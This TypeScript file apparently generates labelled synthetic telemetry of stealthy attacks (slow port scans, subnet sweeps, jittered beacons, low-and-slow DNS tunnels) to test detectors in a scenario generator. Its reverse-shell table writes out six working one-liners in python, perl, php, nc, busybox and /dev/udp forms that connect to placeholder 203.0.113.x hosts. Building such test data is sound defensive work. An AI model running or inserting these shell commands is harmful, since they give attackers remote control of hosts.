// Stealthy attacks for the richer labelled scenario, each with its ground truth: slow scans (one
// probe every few minutes, to hosts or to the ports of one host), horizontal sweeps of one port
// over a subnet where a few hosts answer, slow beacons jittered by ±30%, low-and-slow DNS tunnels,
// and reverse shells in the forms the one-liner cheat sheets list beyond bash's /dev/tcp.
import { NetworkActivityId, type Event } from '@omega/proto';
import { eventFromSigmaFields } from '../field-mapping';
import { dnsEvent, flowEvent } from '../detectors/telemetry-events';
import type { AttackKind, GroundTruth } from './scenario-generator';
import { podKey, scenarioPod, type ScenarioPod } from './scenario-pods';
import { BASE32, type PartStream } from './traffic-part';

const STEALTHY = 20_000;

/** Reverse shells beyond the base scenario's three: image, command line, parent. */
export const STEALTHY_REVERSE_SHELLS: readonly [string, string, string][] = [
  [
    '/usr/bin/python3',
    `python3 -c import socket,os,pty;s=socket.socket();s.connect(("203.0.113.21",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")`,
    '/usr/bin/node',
  ],
  [
    '/bin/sh',
    'sh -c rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.22 9001 >/tmp/f',
    '/usr/local/bin/php-fpm',
  ],
  [
    '/usr/bin/perl',
    `perl -e use Socket;$i="203.0.113.23";$p=443;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");};`,
    '/usr/sbin/apache2',
  ],
  [
    '/usr/local/bin/php',
    `php -r $sock=fsockopen("203.0.113.24",4444);exec("/bin/sh -i <&3 >&3 2>&3");`,
    '/usr/local/bin/php-fpm',
  ],
  ['/bin/busybox', 'busybox nc 203.0.113.25 4444 -e /bin/sh', '/usr/bin/python3'],
  ['/bin/sh', 'sh -i >& /dev/udp/203.0.113.26/53 0>&1', '/usr/bin/java'],
];

export interface StealthyCounts {
  slowScans: number;
  sweeps: number;
  slowBeacons: number;
  slowTunnels: number;
}

/** The attacks, their events pushed to `s`; returns their ground truth. */
export function stealthyAttacks(s: PartStream, counts: StealthyCounts): GroundTruth[] {
  const { durationSec, nodes } = s.context;
  const truths: GroundTruth[] = [];
  let index = STEALTHY;
  // Attackers look like ordinary workloads: a compromised pod keeps its own name.
  const attacker = (name: string): ScenarioPod => scenarioPod('shop', name, index++, nodes);
  const record = (id: string, kind: AttackKind, pod: ScenarioPod, events: Event[]) => {
    for (const e of events) s.push(e, pod.node);
    const times = events.map((e) => e.timeNs);
    truths.push({
      id,
      kind,
      entityKey: podKey(pod),
      startNs: times.reduce((a, b) => (a < b ? a : b)),
      endNs: times.reduce((a, b) => (a > b ? a : b)),
      eventIds: events.map((e) => e.id),
    });
  };
  const startIn = (lengthSec: number) =>
    durationSec * 0.1 + s.random() * Math.max(0, durationSec * 0.8 - lengthSec);
  const { FAIL, REFUSE, CLOSE } = {
    FAIL: NetworkActivityId.NETWORK_ACTIVITY_ID_FAIL,
    REFUSE: NetworkActivityId.NETWORK_ACTIVITY_ID_REFUSE,
    CLOSE: NetworkActivityId.NETWORK_ACTIVITY_ID_CLOSE,
  };

  // Slow scans: one probe every 1-5 minutes, 24 probes. Even: to a new host each time (dropped,
  // no answer), odd: to a new port of one host (refused).
  for (let n = 0; n < counts.slowScans; n++) {
    const pod = attacker(`reports-${n}`);
    const horizontal = n % 2 === 0;
    const start = startIn(24 * 300);
    const events: Event[] = [];
    for (let i = 0, t = start; i < 24; i++, t += 60 + s.random() * 240) {
      events.push(
        flowEvent({
          id: `slow-scan-${n}-${i}`,
          timeNs: s.at(t),
          src: { ip: pod.ip, workload: pod.workload },
          dst: horizontal
            ? { ip: `10.3.${n}.${10 + i * 7}`, port: s.pick([22, 3306, 5432, 6379]) }
            : {
                ip: `10.3.${n}.200`,
                port: [
                  21, 22, 23, 25, 53, 80, 110, 111, 135, 139, 143, 443, 445, 993, 995, 1723, 3306,
                  3389, 5432, 5900, 6379, 8080, 8443, 9200,
                ][i]!,
              },
          activity: horizontal ? FAIL : REFUSE,
        }),
      );
    }
    record(`slow-scan-${n}`, 'scan', pod, events);
  }
  // Horizontal sweeps: one port (Redis, Docker, kubelet) over 200 addresses, one every 2-10 s;
  // 4% of the hosts answer.
  for (let n = 0; n < counts.sweeps; n++) {
    const pod = attacker(`cart-${n}`);
    const port = [6379, 2375, 10250][n % 3]!;
    const start = startIn(200 * 10);
    const events = Array.from({ length: 200 }, (_, i) => {
      const open = s.random() < 0.04;
      return flowEvent({
        id: `sweep-${n}-${i}`,
        timeNs: s.at(start + i * (2 + s.random() * 8)),
        src: { ip: pod.ip, workload: pod.workload },
        dst: { ip: `10.4.${n}.${i + 1}`, port },
        activity: open ? CLOSE : REFUSE,
        bytesOut: open ? 60 : 0,
        bytesIn: open ? 40 : 0,
      });
    });
    record(`sweep-${n}`, 'scan', pod, events);
  }
  // Slow beacons: a check-in every 10-30 minutes jittered by ±30%, sizes within ±3%, all along.
  for (let n = 0; n < counts.slowBeacons; n++) {
    const pod = attacker(`search-${n}`);
    const period = 600 + s.int(1201);
    const events: Event[] = [];
    for (let t = s.random() * period, i = 0; t < durationSec - 1; i++) {
      events.push(
        flowEvent({
          id: `slow-beacon-${n}-${i}`,
          timeNs: s.at(t),
          src: { ip: pod.ip, workload: pod.workload },
          dst: { ip: `203.0.113.${80 + n}`, port: 443 },
          bytesOut: Math.round(520 * (0.97 + s.random() * 0.06)),
          bytesIn: Math.round(310 * (0.97 + s.random() * 0.06)),
        }),
      );
      t += period * (0.7 + s.random() * 0.6);
    }
    record(`slow-beacon-${n}`, 'beacon', pod, events);
  }
  // Low-and-slow DNS tunnels: a 24-40 character base32 label every 1-8 minutes for 3 hours.
  for (let n = 0; n < counts.slowTunnels; n++) {
    const pod = attacker(`mailer-${n}`);
    const every = 60 + s.int(421);
    const start = startIn(3 * 3600);
    const domain = `cdn-${s.text(BASE32, 6)}.example.org`;
    const events: Event[] = [];
    for (
      let t = start, i = 0;
      t < start + 3 * 3600 && t < durationSec - 1;
      t += every * (0.8 + s.random() * 0.4), i++
    ) {
      events.push(
        dnsEvent({
          id: `slow-tunnel-${n}-${i}`,
          timeNs: s.at(t),
          src: { ip: pod.ip, workload: pod.workload },
          hostname: `${s.text(BASE32, 24 + s.int(17))}.${domain}`,
        }),
      );
    }
    record(`slow-tunnel-${n}`, 'dns-tunnel', pod, events);
  }
  // Reverse shells, one of each form.
  STEALTHY_REVERSE_SHELLS.forEach(([image, commandLine, parent], n) => {
    const pod = attacker(`web-${n}`);
    const event = eventFromSigmaFields('process_creation', {
      'omega.namespace': pod.namespace,
      'omega.pod': pod.name,
      'omega.node': pod.node,
      Image: image,
      CommandLine: commandLine,
      ParentImage: parent,
    });
    event.id = `stealthy-shell-${n}`;
    event.timeNs = s.at(startIn(0));
    record(`stealthy-shell-${n}`, 'reverse-shell', pod, [event]);
  });
  return truths;
}
